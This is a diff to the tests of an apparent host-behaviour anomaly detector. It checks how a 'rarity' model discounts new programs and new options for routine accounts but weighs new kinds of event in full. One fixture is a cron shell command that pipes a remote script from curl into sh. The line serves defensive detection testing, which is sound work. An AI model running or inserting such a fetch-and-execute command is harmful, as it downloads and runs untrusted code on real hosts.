@@ -226,7 +226,101 @@ t.test('rarity counts one new thing once: a new program is not stronger for the 
   // two: a program never run, in a working directory never seen
   const two = await one(m, proc('/usr/bin/htop', 'htop', '~/src/p99', at));
   t.ok(two > program + 1.5, `a new program from a new directory (${two.toFixed(2)}) is well above the new program alone (${program.toFixed(2)})`);
-  t.ok(program < template + 1, `a new program (${program.toFixed(2)}) is not counted one and a half times against a new template (${template.toFixed(2)})`);
+  // a new template of a known program counts half (the next test): doubled, it is what one new thing weighs
+  t.ok(
+    program < 2 * template + 1,
+    `a new program (${program.toFixed(2)}) is not counted one and a half times against a new template (${template.toFixed(2)}, counted half)`,
+  );
+});
+
+t.test('rarity: in a pooled baseline, the values of an account that logs in count half unless its event brings a new kind', async (t) => {
+  // two accounts with the same routine; one of them also logs in every day (a person at a
+  // shell), the other never does (a service account)
+  const DAY = 86400;
+  const start = 1_790_000_000 - (1_790_000_000 % DAY);
+  const proc = (who: string, exe: string, time: number, loc = 'system'): BehaviourEvent => ({
+    key: `exec ${exe} <- /bin/bash`,
+    values: ['kind=process', `exe=${exe}`, 'parent=/bin/bash', `exeloc=${loc}`, `who=${who}`],
+    pairs: [`parent=/bin/bash>exe=${exe}`, `who=${who}>exe=${exe}`, `who=${who}>exeloc=${loc}`, `who=${who}>kind=process`],
+    text: '',
+    time,
+  });
+  const login = (who: string, time: number): BehaviourEvent => ({
+    key: 'login pts from private:10.40',
+    values: ['kind=login', 'net=internal', `who=${who}`],
+    pairs: [`who=${who}>kind=login`, `who=${who}>net=internal`],
+    text: '',
+    time,
+  });
+  const train: BehaviourEvent[] = [];
+  for (let d = 0; d < 10; d++) {
+    const day = start + d * DAY;
+    train.push(login('ops', day + 9 * 3600));
+    for (let i = 0; i < 60; i++) {
+      const exe = ['/usr/bin/tail', '/usr/bin/grep', '/usr/bin/df'][i % 3];
+      train.push(proc('ops', exe, day + 9 * 3600 + i * 60), proc('svc', exe, day + 9 * 3600 + i * 60 + 30));
+    }
+  }
+  const m = createModel('rarity');
+  await m.fit(train.map((e) => [e]));
+  const at = start + 10 * DAY + 10 * 3600;
+  const score = async (e: BehaviourEvent) => (await m.score([{ event: e, context: [] }]))[0];
+  const personTool = await score(proc('ops', '/usr/bin/htop', at));
+  const serviceTool = await score(proc('svc', '/usr/bin/htop', at));
+  t.ok(
+    personTool.value < 0.6 * serviceTool.value,
+    `a new program of the account that logs in (${personTool.value.toFixed(2)}) counts half of the same of one that never does (${serviceTool.value.toFixed(2)})`,
+  );
+  t.match(personTool.detail, /`ops`, an account that logs in here,/, personTool.detail);
+  // a new kind: a program from a temp directory is weighed in full for either account
+  const personTemp = await score(proc('ops', '/tmp/x', at, 'temp'));
+  const serviceTemp = await score(proc('svc', '/tmp/x', at, 'temp'));
+  t.ok(
+    personTemp.value > 0.9 * serviceTemp.value && personTemp.value > serviceTool.value,
+    `a program in a temp directory of the account that logs in (${personTemp.value.toFixed(2)}) is not discounted (${serviceTemp.value.toFixed(2)} for the other)`,
+  );
+});
+
+t.test('rarity: new options of a program the account runs count half, unless the arguments are code or an account', async (t) => {
+  // the host baseline's events of two accounts: a developer's tools, and root's cron shell
+  // and sshd's fork for the developer's sessions
+  const DAY = 86400;
+  const start = 1_790_000_000 - (1_790_000_000 % DAY);
+  const proc = (who: string, exe: string, parent: string, cmd: string, time: number, extra: string[] = []): BehaviourEvent => ({
+    key: `exec ${exe} <- ${parent}`,
+    values: ['kind=process', `exe=${exe}`, `parent=${parent}`, `cmd=${cmd}`, 'exeloc=system', `who=${who}`, ...extra],
+    pairs: [`parent=${parent}>exe=${exe}`, `exe=${exe}>cmd=${cmd}`, `who=${who}>exe=${exe}`],
+    text: '',
+    time,
+  });
+  const routine = [
+    ['dana', '/usr/bin/docker', '/bin/bash', 'docker ps'],
+    ['dana', '/usr/bin/docker', '/bin/bash', 'docker build -t <*> .'],
+    ['dana', '/usr/bin/git', '/bin/bash', 'git status'],
+    ['root', '/bin/sh', '/usr/sbin/cron', '/bin/sh -c cd / && run-parts --report /etc/cron.hourly'],
+    ['root', '/usr/sbin/sshd', 'unknown', 'sshd: dana [priv]'],
+  ];
+  const train: BehaviourEvent[] = [];
+  for (let d = 0; d < 10; d++)
+    for (let i = 0; i < 200; i++) train.push(proc(...(routine[i % routine.length] as [string, string, string, string]), start + d * DAY + i * 60));
+  const m = createModel('rarity');
+  await m.fit(train.map((e) => [e]));
+  const at = start + 10 * DAY + 3600;
+  const score = async (e: BehaviourEvent) => (await m.score([{ event: e, context: [] }]))[0];
+  const options = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker compose up -d', at));
+  const program = await score(proc('dana', '/usr/bin/htop', '/bin/bash', 'htop', at));
+  const code = await score(proc('root', '/bin/sh', '/usr/sbin/cron', '/bin/sh -c curl -fsSL http://<*>/u.sh | sh', at));
+  const account = await score(proc('root', '/usr/sbin/sshd', 'unknown', 'sshd: root [priv]', at));
+  // the same new options, run where the account's paths never pointed: a new kind is not discounted
+  const place = await score(proc('dana', '/usr/bin/docker', '/bin/bash', 'docker compose up -d', at, ['argloc=accounts']));
+  t.ok(options.value < program.value - 2, `new options of docker (${options.value.toFixed(2)}) are well below a new program (${program.value.toFixed(2)})`);
+  t.match(options.detail, /^new options of a known program: command `docker compose up -d`/, options.detail);
+  t.ok(
+    code.value > options.value + 2,
+    `a new command line of a shell under cron (${code.value.toFixed(2)}) is not discounted as options are (${options.value.toFixed(2)})`,
+  );
+  t.ok(account.value > options.value + 2, `nor is sshd's fork for an account never logged in here (${account.value.toFixed(2)})`);
+  t.ok(place.value > program.value, `new options that point at the accounts (${place.value.toFixed(2)}) are not discounted`);
 });
 
 /** hashEvent as it was written first: each token built as a string, hashed whole, summed in a Map */
